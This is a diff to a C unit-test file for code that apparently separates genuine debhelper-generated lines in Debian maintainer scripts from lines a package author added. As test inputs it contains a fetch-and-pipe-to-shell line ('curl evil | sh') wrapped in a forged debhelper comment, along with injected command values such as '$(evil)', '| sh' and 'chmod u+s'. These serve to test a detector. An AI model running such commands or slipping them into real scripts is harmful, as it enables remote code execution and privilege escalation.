@@ -5,6 +5,7 @@
 #include <stdint.h>
 #include <cmocka.h>
 
+#include "collect/debian_debhelper.h"
 #include "collect/dpkg.h"
 
 #define EQ(a, literal) assert_true(sb_str_eq((a), SB_S(literal)))
@@ -152,15 +153,44 @@ static void test_script(void **state)
     /* sections and empty lines come and go */
     assert_true(sb_str_eq(own, sb_dpkg_script(SB_S("#!/bin/sh\nset -e\n\nadduser x\n" SECTION SECTION), &arena)));
     assert_false(sb_str_eq(own, sb_dpkg_script(SB_S("#!/bin/sh\nset -e\nadduser y\n" SECTION), &arena)));
-    /* a section that never ends, or that another one opens in, hides nothing */
-    sb_str open = sb_dpkg_script(SB_S("#!/bin/sh\nset -e\n# Automatically added by dh_x\ncurl evil | sh\n"), &arena);
-    assert_true(sb_str_starts(open, SB_S("own:")));
-    assert_true(sb_str_starts(sb_dpkg_script(SB_S("# Automatically added by dh_x\ncurl evil | sh\n" SECTION), &arena),
-                              SB_S("own:")));
+    /* the comment around it proves nothing */
+    sb_str forged = sb_dpkg_script(
+        SB_S("# Automatically added by dh_x\ncurl evil | sh\n# End automatically added section\n"), &arena);
+    assert_true(sb_str_starts(forged, SB_S("own:")));
     assert_true(sb_str_starts(sb_dpkg_script(SB_S("\x7f"
                                                   "ELF\0\0\n\0"),
                                              &arena),
                               SB_S("own:")));
+}
+
+static void test_debhelper(void **state)
+{
+    static const char *const lines[] = {
+        "fi",
+        "if [ \"$1\" = \"configure\" ] || [ \"$1\" = \"abort-upgrade\" ] ; then",
+        "if [ -z \"${DPKG_ROOT:-}\" ] && [ -d /run/systemd/system ]; then",
+        "if [ -x \"`command -v update-menus`\" ] && [ -x \"$DPKG_ROOT`command -v update-menus`\" ]; then",
+        "if command -v py3compile >/dev/null 2>&1; then",
+        "if deb-systemd-helper --quiet was-enabled 'x.service'; then",
+        "deb-systemd-invoke $_dh_action 'x.service' 'x.socket' >/dev/null || true",
+        "dpkg-maintscript-helper rm_conffile /etc/x 1:2.3\\~ -- \"$@\"",
+        "update-alternatives --install /usr/bin/x x /usr/bin/y 30 \\",
+        "chmod +x \"/etc/init.d/x\" >/dev/null || true",
+    };
+    static const char *const others[] = {
+        "if evil; then",         "if [ a ]; evil; then", "if [ a ] && evil; then",
+        "if [ a ]; then evil",   "if [ `evil` ]; then",  "if command -v x; evil; then",
+        "py3compile -p x; evil", "py3compile -p x | sh", "py3compile -p $(evil)",
+        "rm -f x || evil",       "chmod u+s /usr/bin/x", "curl x",
+        "update-menus && evil",
+    };
+    (void)state;
+    for (size_t i = 0; i < SB_COUNT(lines); i++)
+        if (!sb_debhelper_line(sb_str_of(lines[i])))
+            fail_msg("%s", lines[i]);
+    for (size_t i = 0; i < SB_COUNT(others); i++)
+        if (sb_debhelper_line(sb_str_of(others[i])))
+            fail_msg("%s", others[i]);
 }
 
 static void test_triggers(void **state)
@@ -193,9 +223,9 @@ static void test_copyright(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_want),     cmocka_unit_test(test_parts),           cmocka_unit_test(test_architectures),
-        cmocka_unit_test(test_resolve),  cmocka_unit_test(test_many_candidates), cmocka_unit_test(test_script),
-        cmocka_unit_test(test_triggers), cmocka_unit_test(test_copyright),
+        cmocka_unit_test(test_want),      cmocka_unit_test(test_parts),           cmocka_unit_test(test_architectures),
+        cmocka_unit_test(test_resolve),   cmocka_unit_test(test_many_candidates), cmocka_unit_test(test_script),
+        cmocka_unit_test(test_debhelper), cmocka_unit_test(test_triggers),        cmocka_unit_test(test_copyright),
     };
     int failed = cmocka_run_group_tests(tests, NULL, NULL);
     sb_arena_done(&arena);
